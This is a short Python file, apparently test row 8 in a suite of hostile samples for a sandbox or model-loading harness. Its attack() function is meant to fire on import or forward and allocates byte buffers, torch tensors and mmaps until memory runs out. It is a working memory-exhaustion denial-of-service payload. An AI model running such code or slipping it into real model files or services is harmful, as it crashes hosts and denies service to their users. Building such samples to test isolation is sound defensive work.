"""Row 8: takes memory until there is none: bytes, tensors, anonymous maps.

Where: import, forward
"""

import torch
from torch import nn, sys


def attack(*_):
    kept = []
    take = [lambda: bytes(1 << 26), lambda: torch.ones(1 << 24), lambda: sys.modules["mmap"].mmap(-1, 1 << 26)]
    failed = 0
    while failed < 100:
        try:
            kept.append(take[failed % 3]())
            if isinstance(kept[-1], sys.modules["mmap"].mmap):
                kept[-1].write(bytes(1 << 26))
        except (MemoryError, RuntimeError, OSError):
            failed += 1
